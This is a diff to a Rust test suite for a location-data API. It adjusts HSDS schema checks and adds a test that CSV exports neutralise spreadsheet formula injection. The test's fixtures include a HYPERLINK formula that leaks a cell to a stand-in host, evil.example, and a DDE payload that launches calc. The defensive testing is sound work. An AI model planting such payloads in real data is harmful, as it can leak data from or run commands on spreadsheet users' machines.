@@ -379,6 +379,7 @@ async fn hsds_zip_is_a_valid_hsds_tabular_data_package() {
         hsds["resources"].as_array().unwrap().iter().map(|r| (r["name"].as_str().unwrap(), r)).collect();
     let resources = package["resources"].as_array().unwrap();
     assert!(resources.len() >= 10);
+    let included: BTreeSet<&str> = resources.iter().map(|r| r["name"].as_str().unwrap()).collect();
     assert_eq!(package["profile"], hsds["profile"]);
     assert_eq!(files.len(), resources.len() + 1, "one CSV per resource, plus datapackage.json");
 
@@ -387,7 +388,13 @@ async fn hsds_zip_is_a_valid_hsds_tabular_data_package() {
     for r in resources {
         let name = r["name"].as_str().unwrap();
         let theirs = hsds_resources.get(name).unwrap_or_else(|| panic!("{name} is not an HSDS table"));
-        assert_eq!(r["schema"], theirs["schema"], "{name}: the table schema is HSDS's own");
+        // HSDS's own table schema, less the foreign keys to tables the package does not hold
+        // (Frictionless rejects a key to a missing resource).
+        let mut schema = theirs["schema"].clone();
+        if let Some(keys) = schema.get_mut("foreignKeys").and_then(Value::as_array_mut) {
+            keys.retain(|k| included.contains(k["reference"]["resource"].as_str().unwrap()));
+        }
+        assert_eq!(r["schema"], schema, "{name}: the table schema is HSDS's own");
         assert_eq!(r["path"], theirs["path"]);
         let fields = r["schema"]["fields"].as_array().unwrap();
         let csv_text = files.get(r["path"].as_str().unwrap()).unwrap_or_else(|| panic!("{name}: no {}", r["path"]));
@@ -503,4 +510,78 @@ async fn locations_csv_has_every_location() {
     assert!(main[11].parse::<f64>().is_ok());
     let again = app.client.get(app.url("/v1/export/locations.csv")).header("If-None-Match", etag).send().await.unwrap();
     assert_eq!(again.status(), 304);
+}
+
+/// Issue 14: names beginning with a formula character reach both CSV exports neutralised
+/// (a leading `'`, as OWASP recommends), so a spreadsheet shows them as text; phone numbers
+/// keep their `+`.
+#[tokio::test]
+async fn csv_exports_neutralise_formulas() {
+    let app = TestApp::spawn().await;
+    let token = app.token("pksotu", false).await;
+    let evil = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Klikkaa\")";
+    let resp = app
+        .write(reqwest::Method::POST, "/v1/locations", &token)
+        .json(&json!({
+            "kind": "association",
+            "name": {"fi": evil, "sv": "+cmd|' /C calc'!A0", "en": "@SUM(1+1)"},
+            "municipality_code": "167",
+            "latitude": 62.6,
+            "longitude": 29.76,
+            "phone": "+358 13 123 4567",
+            "languages": ["fi"]
+        }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(resp.status(), 201, "{}", resp.text().await.unwrap());
+    let created: Value = resp.json().await.unwrap();
+    let id = created["id"].as_str().unwrap().to_owned();
+    assert_eq!(created["name"]["fi"], evil, "the API itself keeps the name as written");
+
+    // /v1/export/locations.csv
+    let body = app.get("/v1/export/locations.csv").await.text().await.unwrap();
+    assert!(body.ends_with("\r\n"), "RFC 4180 records end in CRLF");
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let row = rows.iter().find(|r| r[0] == *id).expect("the new location is exported");
+    assert_eq!(&row[col("name_fi")], format!("'{evil}"));
+    assert_eq!(&row[col("name_sv")], "'+cmd|' /C calc'!A0");
+    assert_eq!(&row[col("name_en")], "'@SUM(1+1)");
+    assert_eq!(&row[col("phone")], "+358 13 123 4567", "a phone number is not a formula");
+    for r in &rows {
+        for cell in r.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.starts_with("+358"),
+                "locations.csv: {cell:?} would run as a formula"
+            );
+        }
+    }
+
+    // Every CSV of /v1/export/hsds.zip.
+    let bytes = app.get("/v1/export/hsds.zip").await.bytes().await.unwrap();
+    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let mut seen_name = false;
+    for i in 0..zip.len() {
+        let mut f = zip.by_index(i).unwrap();
+        let name = f.name().unwrap().to_string();
+        if !name.ends_with(".csv") {
+            continue;
+        }
+        let mut text = String::new();
+        f.read_to_string(&mut text).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        for rec in reader.records() {
+            for cell in rec.unwrap().iter() {
+                seen_name |= name == "locations.csv" && cell == format!("'{evil}");
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.starts_with("+358"),
+                    "{name}: {cell:?} would run as a formula"
+                );
+            }
+        }
+    }
+    assert!(seen_name, "the HSDS locations.csv has the neutralised name");
 }
